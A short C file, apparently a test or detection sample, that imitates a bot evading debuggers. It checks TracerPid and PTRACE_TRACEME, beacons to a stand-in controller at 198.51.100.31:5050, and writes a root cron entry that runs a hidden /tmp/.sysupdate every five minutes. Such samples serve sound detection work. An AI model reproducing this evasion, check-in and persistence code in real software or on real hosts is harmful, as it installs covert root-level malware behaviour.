/* Imitates a bot that refuses to run under a debugger: TracerPid in /proc/self/status, then
 * PTRACE_TRACEME (which fails when a tracer is attached; checked second, because a successful one makes
 * the parent the tracer). When it believes nobody watches it checks in with its controller and installs
 * a cron entry of its own. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <unistd.h>

static int traced(void) {
  FILE *status = fopen("/proc/self/status", "r");
  char line[256];
  int tracer = 0;
  while (status && fgets(line, sizeof line, status)) {
    if (strncmp(line, "TracerPid:", 10) == 0) tracer = atoi(line + 10);
  }
  if (status) fclose(status);
  return tracer != 0 || ptrace(PTRACE_TRACEME, 0, 0, 0) < 0;
}

int main(void) {
  if (traced()) return 0;
  int sock = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in c2 = { .sin_family = AF_INET, .sin_port = htons(5050) };
  inet_pton(AF_INET, "198.51.100.31", &c2.sin_addr);
  if (connect(sock, (struct sockaddr *)&c2, sizeof c2) == 0) write(sock, "\x01\x02HELLO-UNTRACED\x00", 16);
  close(sock);
  int fd = open("/etc/cron.d/corpus-sysupdate", O_WRONLY | O_CREAT | O_TRUNC, 0644);
  dprintf(fd, "*/5 * * * * root /tmp/.sysupdate >/dev/null 2>&1\n");
  close(fd);
  return 0;
}
